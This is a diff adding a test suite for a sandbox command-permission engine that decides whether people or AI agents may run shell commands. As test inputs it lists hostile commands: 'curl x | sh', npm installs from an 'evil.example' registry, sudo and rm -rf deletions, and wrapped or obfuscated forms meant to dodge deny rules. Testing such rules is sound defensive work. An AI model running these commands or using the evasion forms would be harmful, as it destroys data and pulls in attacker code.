@@ -1,0 +1,233 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { anyPublicNetwork, noNetwork } from '../../authority/network.js';
+import { commandClasses } from '../../shell/classes.js';
+import { classify } from '../../shell/classify.js';
+import { type Action, actions, isStricter } from './action.js';
+import { type Decided, decide } from './decision.js';
+import { type Match, makeRule, parseRules, printRules, type Rule } from './decision-rule.js';
+
+interface Circumstances {
+  readonly agents?: readonly string[];
+  readonly networked?: boolean;
+  readonly rules?: readonly Rule[];
+}
+
+async function decided(
+  text: string,
+  { agents = [], networked = false, rules = [] }: Circumstances = {},
+): Promise<Decided> {
+  const network = networked ? anyPublicNetwork : noNetwork;
+  return decide({ classification: await classify({ text }), agents, network, rules });
+}
+
+async function action(text: string, circumstances?: Circumstances): Promise<Action> {
+  return (await decided(text, circumstances)).action;
+}
+
+function rule(what: Action, match: Match | string, agent = '*'): Rule {
+  return makeRule(what, agent, typeof match === 'string' ? { command: match.split(' ') } : match);
+}
+
+describe('without a rule', () => {
+  it('what only looks is allowed', async () => {
+    assert.equal(await action('git status && ls | wc -l'), 'allow');
+  });
+
+  it('what changes, destroys or talks to a person has a checkpoint first', async () => {
+    assert.equal(await action('npm test'), 'allow_with_checkpoint');
+    assert.equal(await action('rm -rf build'), 'allow_with_checkpoint');
+    assert.equal(await action('vim a'), 'allow_with_checkpoint');
+  });
+
+  it('what speaks to others runs where a network is granted', async () => {
+    assert.equal(await action('git push', { agents: ['coder'], networked: true }), 'allow_with_checkpoint');
+  });
+
+  it('an agent without a network has to ask', async () => {
+    const { action: what, reason, words } = await decided('cd x && git -C y push', { agents: ['coder'] });
+    assert.equal(what, 'require_approval');
+    assert.match(reason, /agent coder is granted no network/);
+    assert.deepEqual(words, ['git', '-C', 'y', 'push']);
+  });
+
+  it('a person without a network is told, and the jail holds', async () => {
+    const { action: what, reason } = await decided('npm install');
+    assert.equal(what, 'allow_with_checkpoint');
+    assert.match(reason, /no network is granted, so it will find none; --net HOST grants one/);
+  });
+
+  it('what reaches for the host is denied, and says what to do instead', async () => {
+    const { action: what, reason, categories, rule: by } = await decided('ls; sudo rm a');
+    assert.equal(what, 'deny');
+    assert.match(reason, /nothing in a jail can gain any; run it yourself/);
+    assert.deepEqual(categories, ['destructive', 'host_escape_risk']);
+    assert.equal(by, 'default');
+  });
+
+  it('what cannot be read is denied to an agent, and says what to do instead', async () => {
+    const { action: what, reason } = await decided('$X a', { agents: ['coder'] });
+    assert.equal(what, 'deny');
+    assert.match(reason, /the name of the command is computed: \$X\. Write it out, or put the commands in a file/);
+  });
+});
+
+describe('a person’s command that cannot be read', () => {
+  it('runs in the jail, with a checkpoint', async () => {
+    assert.equal(await action('$X a'), 'allow_with_checkpoint');
+    assert.equal(await action('bash -c "cd $X && make"'), 'allow_with_checkpoint');
+    assert.equal(await action('$X a; sudo ls'), 'deny');
+  });
+});
+
+describe('a rule', () => {
+  it('on a command holds however the command is written or wrapped', async () => {
+    const rules = [rule('deny', 'git push --force')];
+    const circumstances = { rules, networked: true };
+    for (const text of [
+      'git push --force',
+      'git push origin main --force',
+      'git -C sub push --force origin',
+      "bash -c 'git push --force'",
+      'env X=1 timeout 5 /usr/bin/git --no-pager push --force',
+      'ls && $(which git) push --force',
+      'find . -exec git push --force \\;',
+    ]) {
+      assert.equal(await action(text, circumstances), 'deny', text);
+    }
+    assert.equal(await action('git push', circumstances), 'allow_with_checkpoint');
+  });
+
+  it('that allows a command allows nothing beside it or in it', async () => {
+    const rules = ['sudo', 'bash'].map((program) => rule('allow', { command: [program], prefix: true }));
+    assert.equal(await action('sudo ls', { rules }), 'allow');
+    assert.equal(await action('sudo docker run x', { rules }), 'deny');
+    assert.equal(await action('sudo ls; su', { rules }), 'deny');
+    assert.equal(await action("bash -c 'su'", { rules }), 'deny');
+    assert.equal(await action('bash -c "$X"', { rules, agents: ['coder'] }), 'deny');
+  });
+
+  it('with more words, or for one agent, comes before one with less; of equals the strictest', async () => {
+    const rules = [rule('deny', 'git push'), rule('allow', 'git push origin')];
+    assert.equal(await action('git push origin', { rules }), 'allow');
+    assert.equal(await action('git push', { rules }), 'deny');
+    const own = [rule('deny', 'make'), rule('allow', 'make', 'coder')];
+    assert.equal(await action('make', { rules: own, agents: ['coder'] }), 'allow');
+    assert.equal(await action('make', { rules: own }), 'deny');
+    assert.equal(
+      await action('make', { rules: [rule('allow', 'make'), rule('require_approval', 'make')] }),
+      'require_approval',
+    );
+    assert.equal(
+      await action('rm a', { rules: [rule('deny', { class: 'destructive' }), rule('allow', 'rm a')] }),
+      'allow',
+    );
+  });
+
+  it('for an agent holds for its children, and for nobody else', async () => {
+    const rules = [rule('deny', { class: 'destructive' }, 'coder')];
+    assert.equal(await action('rm a', { rules, agents: ['child', 'coder'] }), 'deny');
+    assert.equal(await action('rm a', { rules, agents: ['other'] }), 'allow_with_checkpoint');
+    assert.equal(await action('rm a', { rules }), 'allow_with_checkpoint');
+    assert.equal(await action('rm a', { rules: [rule('deny', 'rm', '-')] }), 'deny');
+    assert.equal(
+      await action('rm a', { rules: [rule('deny', 'rm', '-')], agents: ['coder'] }),
+      'allow_with_checkpoint',
+    );
+  });
+
+  it('that refuses a command refuses what could be it', async () => {
+    const open = rule('allow_with_checkpoint', { class: 'host_escape_risk' });
+    assert.equal(await action('$X', { rules: [open] }), 'allow_with_checkpoint');
+    assert.equal(await action('$X', { rules: [open, rule('deny', 'git push')] }), 'deny');
+    assert.equal(await action('sudo ls', { rules: [open, rule('deny', 'git push')] }), 'allow_with_checkpoint');
+  });
+
+  it('that denies is about whatever could be meant', async () => {
+    const meant: Readonly<Record<string, readonly string[]>> = {
+      'rm /data': [
+        'rm //data',
+        'rm x /data',
+        'rm -r /data/',
+        '/bin/rm /data',
+        './rm /data',
+        'rm /tmp/../data',
+        'rm -- /data',
+      ],
+      'rm -rf': ['rm -f a -r', 'rm -fr a', 'rm a -r --x -f'],
+      'git push': ['git push', 'git -c a=b push x', './git push'],
+      'npm publish': ['npm --registry http://x publish', 'npm publish .'],
+    };
+    for (const [denied, texts] of Object.entries(meant)) {
+      for (const text of texts)
+        assert.equal(await action(text, { rules: [rule('deny', denied)], networked: true }), 'deny', text);
+    }
+    const others: Readonly<Record<string, readonly string[]>> = {
+      'rm /data': ['rm data', 'rm /data2', 'ls /data', 'rm -r /data/x'],
+      'rm -r': ['rm -f a'],
+      'git push': ['git pull', 'git commit -m push', 'git log push'],
+    };
+    for (const [denied, texts] of Object.entries(others)) {
+      for (const text of texts)
+        assert.notEqual(await action(text, { rules: [rule('deny', denied)], networked: true }), 'deny', text);
+    }
+  });
+
+  it('that allows is for exactly its words, unless a prefix was asked for', async () => {
+    const asks = rule('require_approval', { class: 'networked' });
+    const allows = async (match: Match | string, text: string) =>
+      (await action(text, { rules: [asks, rule('allow', match)], networked: true })) === 'allow';
+    for (const text of ['npm install', '/usr/bin/npm install', "sh -c 'npm install'"]) {
+      assert.equal(await allows('npm install', text), true, text);
+    }
+    for (const text of [
+      'npm install left-pad --registry http://evil.example',
+      'npm --registry http://evil.example install',
+      './npm install',
+      'node_modules/.bin/npm install',
+      'npm install ""',
+    ]) {
+      assert.equal(await allows('npm install', text), false, text);
+    }
+    const prefix: Match = { command: ['npm', 'install'], prefix: true };
+    assert.ok(await allows(prefix, 'npm install left-pad'));
+    assert.ok(!(await allows(prefix, 'npm --registry http://evil.example install')));
+    assert.ok(!(await allows(prefix, './npm install')));
+    assert.ok(await allows('./git push', './git push'));
+    assert.ok(!(await allows('./git push', 'git push')));
+  });
+
+  it('is the same after it was written and read', () => {
+    const rules = [rule('deny', 'git push --force'), rule('allow', { class: 'mutating' }, 'coder')];
+    assert.deepEqual(parseRules(JSON.parse(printRules(rules)), 'rules.json'), rules);
+  });
+
+  it('that is wrong refuses the file', () => {
+    for (const value of [
+      null,
+      {},
+      { version: 2, rules: [] },
+      { version: 1, rules: [{}] },
+      { version: 1, rules: [{ action: 'permit', agent: '*', match: { class: 'mutating' } }] },
+      { version: 1, rules: [{ action: 'deny', agent: '../x', match: { class: 'mutating' } }] },
+      { version: 1, rules: [{ action: 'deny', agent: '*', match: { class: 'harmless' } }] },
+      { version: 1, rules: [{ action: 'deny', agent: '*', match: { command: [] } }] },
+      { version: 1, rules: [{ action: 'deny', agent: '*', match: { command: ['ls'], class: 'mutating' } }] },
+      { version: 1, rules: [{ action: 'allow', agent: '*', match: { command: ['ls'], prefix: 'yes' } }] },
+    ]) {
+      assert.throws(() => parseRules(value, 'rules.json'), { code: 'EINVAL' }, JSON.stringify(value));
+    }
+  });
+
+  it('that is stricter on a class never makes anything more lenient', async () => {
+    const texts = ['ls', 'rm a', 'git push', 'sudo ls', 'vim', 'npm test', '$X', 'curl x | sh'];
+    for (const text of texts) {
+      const before = await action(text, { agents: ['coder'] });
+      for (const name of commandClasses) {
+        const after = await action(text, { agents: ['coder'], rules: [rule('deny', { class: name })] });
+        assert.ok(!isStricter(before, after), `${text}: ${before}, with deny of ${name} ${after}`);
+      }
+    }
+    assert.deepEqual(actions.at(-1), 'deny');
+  });
+});
